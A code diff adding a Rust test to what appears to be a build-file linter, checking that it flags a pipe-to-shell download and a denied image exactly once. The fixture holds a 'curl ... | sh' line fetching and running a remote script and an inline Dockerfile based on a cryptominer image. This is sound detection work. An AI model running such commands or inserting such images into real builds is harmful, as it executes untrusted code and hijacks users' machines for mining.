@@ -223,3 +223,21 @@ fn what_a_service_starts_is_followed_into_the_image_that_is_built_for_it() {
         assert!(!is_found || found[0].starts_with(&format!("{script_at}:3:")), "{found:?}");
     }
 }
+
+#[test]
+fn what_a_dockerfile_brings_is_told_once_whoever_asks_for_its_build() {
+    let script = "#!/bin/sh\ncurl https://dl.example.invalid/a.sh | sh\n";
+    let project = Project::with(&[
+        ("Dockerfile", "FROM alpine:3.20\nCOPY run.sh /\nRUN sh /run.sh\n"),
+        ("run.sh", script),
+        ("compose.yaml", "services:\n  web: {build: .}\n"),
+        ("docker-bake.hcl", "target \"web\" {}\n"),
+        (
+            "docker-bake.override.hcl",
+            "target \"web\" {\n  dockerfile-inline = \"FROM metal3d/xmrig\"\n}\n",
+        ),
+    ]);
+    let run = project.run(&["lint", "--quiet", "--format", "short", "."]);
+    assert_eq!(run.out.matches("[pipe-to-shell]").count(), 1, "{}", run.out);
+    assert_eq!(run.out.matches("[denied-image]").count(), 1, "{}", run.out);
+}
